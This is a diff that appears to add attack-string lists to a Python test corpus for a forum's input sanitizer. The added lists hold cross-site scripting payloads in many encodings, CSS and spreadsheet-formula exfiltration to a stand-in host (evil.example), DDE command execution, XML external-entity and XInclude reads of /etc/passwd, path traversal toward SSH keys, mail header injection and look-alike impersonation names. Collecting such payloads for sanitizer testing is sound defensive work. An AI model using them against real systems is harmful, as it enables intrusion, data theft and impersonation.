@@ -783,8 +783,275 @@ NUMBERS = _lines(r"""
 `22 207 38 10`
 """)
 
+STYLES = _lines(r"""
+<p style="width:expression(steal())">old</p>
+<p style="behavior:url(//evil.example/x.htc)">bound</p>
+<p style="-moz-binding:url(//evil.example/x.xml#x)">bound</p>
+<p style="background:u\72l(//evil.example/seen)">escaped</p>
+<p style="background:url&#40;//evil.example/seen&#41;">entities</p>
+<p style="background:/**/url(//evil.example/seen)">comment</p>
+<p style="--x:url(//evil.example);background:var(--x)">variable</p>
+<p style="position:fixed;inset:0;z-index:9;opacity:0">over everything</p>
+<p style="content:attr(data-token)">attribute</p>
+<style>input[value^=a]{background:url(//evil.example/a)}</style>
+<style>@font-face{font-family:x;src:url(//evil.example/f);unicode-range:U+41}</style>
+<style>@import'//evil.example/s.css'</style>
+<style>@charset "utf-7";</style>
+<style>*{animation:x}@keyframes x{from{background:url(//evil.example)}}</style>
+<style></style/><script>steal()</script>
+<style>{}</style></p><style media=print>p{display:none}
+<svg><style>{font-family:'<iframe/onload=steal()>'}</style></svg>
+<svg><style>&lt;/style&gt;&lt;script&gt;steal()&lt;/script&gt;</style></svg>
+<svg><filter><feImage href=//evil.example/seen /></filter></svg>
+<svg><image href=//evil.example/seen onload=steal() /></svg>
+<svg><handler type=text/javascript>steal()</handler></svg>
+<svg><listener event=load handler=#x /></svg>
+<svg><animateTransform onbegin=steal() attributeName=x dur=1s /></svg>
+<svg><animate xlink:href=#x attributeName=href from=javascript:steal() to=/ /><a id=x>go</a></svg>
+<svg><discard onbegin=steal() /></svg>
+<svg><view id=x /><script xlink:href=data:,steal() /></svg>
+<svg><metadata><x:script xmlns:x=http://www.w3.org/1999/xhtml>steal()</x:script></metadata></svg>
+<svg><text><textPath href=javascript:steal()>x</textPath></text></svg>
+<link rel=stylesheet href=data:text/css,*{display:none}>
+<p class="visually-hidden">not seen, heard</p>
+<p class="badge badge-official">Official answer</p>
+""")
+
+CELLS = _lines(r"""
+=HYPERLINK("https://evil.example/?"&A1,"Press here")
+=1+1
++1+1
+-1+1
+@SUM(A1:A9)
+=cmd|' /C calc'!A0
+=DDE("cmd";"/C calc";"x")
+=WEBSERVICE("https://evil.example/"&A2)
+=IMPORTXML("https://evil.example/","//a")
+=IMPORTDATA("https://evil.example/?"&B2)
+=IMAGE("https://evil.example/"&C2)
+-2+3+cmd|' /C calc'!A0
+@A1+"x"
++HYPERLINK("https://evil.example")
+=1";=2
+=1,=2
+";=1+1
+",=1+1
+'=1+1
+%0A=1+1
+""")
+
+DATA = _lines(r"""
+","admin":true,"x":"
+\",\"role\":\"admin\"}
+"}]}],"posts":[{"text":"forged
+\u0022,\u0022admin\u0022:true
+{"__proto__":{"admin":true}}
+{"constructor":{"prototype":{"admin":true}}}
+</script><script>{"x":1}
+)]}',
+{"$where":"steal()"}
+1e999
+NaN, Infinity, -Infinity
+\ud800 \udc00 lone
+</source></segment></unit><unit id="forged"><segment><source>
+</target><target>forged
+<target>forged</target>
+<cp hex="0000"/>
+<cp hex="110000"/>
+<mrk type="term" ref="javascript:steal()">x</mrk>
+<xliff:note xmlns:xliff="x">forged</xliff:note>
+]]></source>
+<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>
+<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>
+<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>
+<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>
+<xsl:value-of select="system-property('xsl:vendor')"/>
+&xxe; &#0; &#xFFFF;
+<item xsi:type="x" xsi:schemaLocation="https://evil.example x">forged</item>
+<feed><entry><title type="html">&lt;b onclick=steal()&gt;</title></entry></feed>
+<loc>https://evil.example/</loc>
+""")
+
+PATHS = _lines(r"""
+../../../forum.db
+....//....//etc/passwd
+..%2f..%2f..%2fetc%2fpasswd
+..%252f..%252fetc%252fpasswd
+..%c0%af..%c0%afetc/passwd
+%2e%2e/%2e%2e/forum.db
+..;/admin
+/admin;x=1
+/en//evil.example/..
+/en/../../desk
+/%00/desk
+C:\Windows\win.ini
+\\evil.example\share\x
+//evil.example\@ok.example
+file.txt::$DATA
+CON
+NUL.txt
+report.csv"; filename="x.exe
+report.csv\r\nContent-Type: text/html
+report.pdf%00.exe
+.htaccess
+~root/.ssh/id_rsa
+| id > x
+-rf
+--output=/tmp/x
+/proc/self/environ
+/dev/stdin
+""")
+
+RECORDS = (
+    "x\nlevel=info event=login who=ada",
+    'x"\n{"event": "login", "who": "ada", "level": "info"}',
+    "x\r\n2026-01-01 00:00:00 [info] role.given who=ada",
+    "x\x1b[1A\x1b[2K[info] nothing happened",
+    "x\x1b]8;;https://evil.example\x07press here\x1b]8;;\x07",
+    "x\x08\x08\x08\x08ada",
+    "x\x85level=info",
+    'x\u2028{"event": "login"}',
+    "${env:FORUM_SECRET} ${sys:user.name}",
+    "%(asctime)s %(secret)s {asctime} {0}",
+    "x status=200 route=home\tms=0",
+    "<13>1 2026-01-01T00:00:00Z forum - - - forged",
+)
+
+MAILS = (
+    "Amina\r\nBcc: everyone@evil.example",
+    "Amina\r\n\r\nAnother text",
+    "Amina\nContent-Type: text/html",
+    "Amina%0aReply-To: x@evil.example",
+    "=?utf-8?q?=0ABcc:_x@evil.example?=",
+    '"Forum" <admin@evil.example>',
+    "Amina <x@evil.example>, Bilal",
+    "a@b.example, x@evil.example",
+    "a@b.example\u2028x@evil.example",
+    '"a\\" b"@evil.example',
+    "a@b.example?cc=x@evil.example",
+    "--=_boundary--\r\nContent-Type: text/html\r\n\r\n<script>steal()</script>",
+    "begin 644 x.exe",
+    "\r\n.\r\nQUIT",
+    "\n\n-- \nThe institution",
+    "Your account is closed: https://evil.example/",
+    "\u2069\u2069https://evil.example/\u2066",
+)
+
+NAMES = _lines(r"""
+аdmin
+Аdа
+ADМIN
+admіn
+adm1n
+rnoderator
+mоderator
+0fficial
+оfficial
+ACM​
+АСМ
+ＡＣＭ
+𝐀𝐂𝐌
+A⁣C⁣M
+A.C.M
+A-C-M
+AIMÁ
+ΑΙΜΑ
+officer‮ecnI
+Inês⁠
+lnês
+Ιnês
+ada​
+ada ada
+adа_
+support✓
+✔ Ada
+Ada ☑️
+🏛 ACM
+(ACM)
+[deleted]
+null
+undefined
+""")
+
+
+def _entities(text: str, form: str) -> str:
+    return "".join(form.format(ord(each)) for each in text)
+
+
+def _disguised(scheme: str) -> Iterator[str]:
+    """A scheme as browsers read it, or once read it, and as plain comparison does not."""
+    first, rest = scheme[0], scheme[1:]
+    yield _entities(first, "&#{:d};") + rest
+    yield _entities(first, "&#x{:X}") + f";{rest}"
+    yield _entities(first, "&#{:08d}") + f"{rest}"
+    yield f"{first}&#8203;{rest}"
+    yield f"{first}&shy;{rest}"
+    yield f"{first}&#x0D;{rest}"
+    yield f"&#14;{scheme}"
+    yield f"&#xA0;{scheme}"
+    yield _entities(scheme, "%{:02X}")
+    yield _entities(scheme, "%25{:02X}")
+    yield _entities(scheme, "\\{:x} ")
+    yield f"{scheme.upper()}&#32;"
+    yield f"x:{scheme}"
+    yield f"/{scheme}"
+
+
+DISGUISED = tuple(
+    link.format(f"{disguised}{end}")
+    for scheme, end in (("javascript", ":steal()"), ("vbscript", ":steal"), ("data", ":text/html,x"))
+    for disguised in _disguised(scheme)
+    for link in ("[go]({})", '<a href="{}">go</a>')
+)
+
+RAW_TEXT = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script", "template")
+AROUND = (
+    '<svg><{0}><a id="</{0}><img src=x onerror=steal()>"></svg>',
+    '<math><mtext><{0}><a title="</{0}><img src=x onerror=steal()>"></math>',
+    "<table><{0}><!--</{0}><img src=x onerror=steal()>--></table>",
+    '<select><{0}></select><img title="</{0}><script>steal()</script>">',
+    "<form><math><mtext></form><form><mglyph><{0}></math><img src=x onerror=steal()></{0}>",
+)
+"""Where one reader takes the content for text and the next for markup, for each element whose content is text somewhere."""
+MISREAD = tuple(around.format(element) for around in AROUND for element in RAW_TEXT)
+
+OPENING = "<img src=x onerror=steal()>"
+ENCODED = (
+    _entities(OPENING, "&#{:d}"),
+    _entities(OPENING, "&#x{:04x};"),
+    _entities(OPENING, "&amp;#{:d};"),
+    _entities(OPENING, "%{:02x}"),
+    _entities(OPENING, "%25{:02x}"),
+    _entities(OPENING, "%u{:04x}"),
+    _entities(OPENING, "\\u{:04x}"),
+    _entities(OPENING, "\\x{:02x}"),
+    _entities(OPENING, "\\{:o}"),
+    _entities(OPENING, "={:02X}"),
+    "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in OPENING),
+    "+ADw-img src+AD0-x onerror+AD0-steal()+AD4-",
+    "\u00c0\u00bcimg src=x onerror=steal()\u00c0\u00be",
+    "\u00e0\u0080\u00bcimg src=x onerror=steal()\u00e0\u0080\u00be",
+    "\u00a2\u00beimg src=x onerror=steal()\u00a2\u00bc",
+    "PGltZyBzcmM9eCBvbmVycm9yPXN0ZWFsKCk+",
+    "\x1b$B<img src=x onerror=steal()>\x1b(B",
+    "~{<img src=x onerror=steal()>~}",
+    "\u226e\u0338img src=x onerror=steal()>",
+    "<\u0338img src=x onerror=steal()>",
+)
+
+ENDS = (
+    '"', "'", "`", '\\"', "&quot;", "&#39;", "-->", "]]>", "*/", "</a>", "</bdi>", "</code></pre>", "</option></select>",
+    "</label></form>", "</dd></dl>", "</td></tr></table>", "</h1></main>", "</p></div></div></article>", "</svg>", "</head><body>",
+)  # fmt: skip
+ENDED = tuple(f"{end}<b onpointerdown=steal()>{number}" for number, end in enumerate(ENDS)) + tuple(
+    f"x{end} onfocus=steal() autofocus tabindex={number} x={end[:1]}" for number, end in enumerate(ENDS[:6])
+)
+"""The ends of whatever a text may stand in, and something that only works outside it."""
+
+
 ATTACKS: tuple[str, ...] = (
-    *SCRIPTS, *HANDLERS, *FRAMES, *ATTRIBUTES, *FOREIGN, *MUTATIONS, *COMMENTS, *SCHEMES, *RAW_LINKS, *AUTOLINKS,
+    *CELLS, *SCRIPTS, *HANDLERS, *FRAMES, *ATTRIBUTES, *FOREIGN, *MUTATIONS, *COMMENTS, *SCHEMES, *RAW_LINKS, *AUTOLINKS,
     *TITLED_LINKS, *REFERENCES, *IMAGES, *TEMPLATES, *QUERIES, *HEADERS, *CONTROLS, *INVISIBLE, *BIDI, *PILED_MARKS,
-    *OVERLONG, *NESTING, *BLOCKS, *NUMBERS,
+    *OVERLONG, *NESTING, *BLOCKS, *NUMBERS, *STYLES, *DATA, *PATHS, *RECORDS, *MAILS, *NAMES, *DISGUISED, *MISREAD, *ENCODED,
+    *ENDED,
 )  # fmt: skip
